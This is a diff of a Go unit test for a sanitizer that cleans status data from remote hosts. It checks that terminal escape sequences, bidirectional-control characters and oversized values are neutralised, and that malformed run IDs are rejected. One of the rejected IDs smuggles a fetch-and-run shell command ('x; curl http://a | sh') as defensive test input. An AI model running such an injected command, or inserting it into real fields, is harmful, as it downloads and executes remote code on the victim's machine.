@@ -1,4 +1,4 @@
-package remote
+package ummclient
 
 import (
 	"strings"
@@ -9,9 +9,9 @@ import (
 
 // A host may say anything: nothing of it reaches a terminal that obeys it, or a command that
 // people are told to type.
-func TestCleaned(t *testing.T) {
+func TestSanitized(t *testing.T) {
 	evil := "a\x1b[2J\u202e\n" + strings.Repeat("x", 20<<20)
-	st := cleaned(api.Status{Mode: evil, BootID: evil, FailedUnits: make([]string, 5000), Reboot: &api.Reboot{Needed: evil, Reasons: []string{evil}, Unknown: []string{evil}}, Problems: []string{evil}, Trigger: &api.Trigger{Reason: evil, Run: evil},
+	st := sanitized(api.Status{Mode: evil, BootID: evil, FailedUnits: make([]string, 5000), Reboot: &api.Reboot{Needed: evil, Reasons: []string{evil}, Unknown: []string{evil}}, Problems: []string{evil}, Trigger: &api.Trigger{Reason: evil, Run: evil},
 		Command: &api.Command{Error: evil, State: evil}, Guard: &api.Guard{Run: "20261123-092114-3f2a", Reason: evil}})
 	for _, s := range []string{st.Mode, st.BootID, st.Problems[0], st.Trigger.Reason, st.Trigger.Run, st.Command.Error, st.Command.State, st.Guard.Reason, st.Reboot.Needed, st.Reboot.Reasons[0], st.Reboot.Unknown[0]} {
 		if len(s) > mostText || !strings.HasPrefix(s, "a [2J x") {
@@ -22,7 +22,7 @@ func TestCleaned(t *testing.T) {
 		t.Errorf("%d units", len(st.FailedUnits))
 	}
 	for _, id := range []string{"x; curl http://a | sh", "", "-x", strings.Repeat("r", 65)} {
-		if st := cleaned(api.Status{Guard: &api.Guard{Run: id}}); st.Guard != nil || len(st.Problems) != 1 || !strings.Contains(st.Problems[0], "its mark names no run") {
+		if st := sanitized(api.Status{Guard: &api.Guard{Run: id}}); st.Guard != nil || len(st.Problems) != 1 || !strings.Contains(st.Problems[0], "its mark names no run") {
 			t.Errorf("%q: %+v", id, st)
 		}
 	}
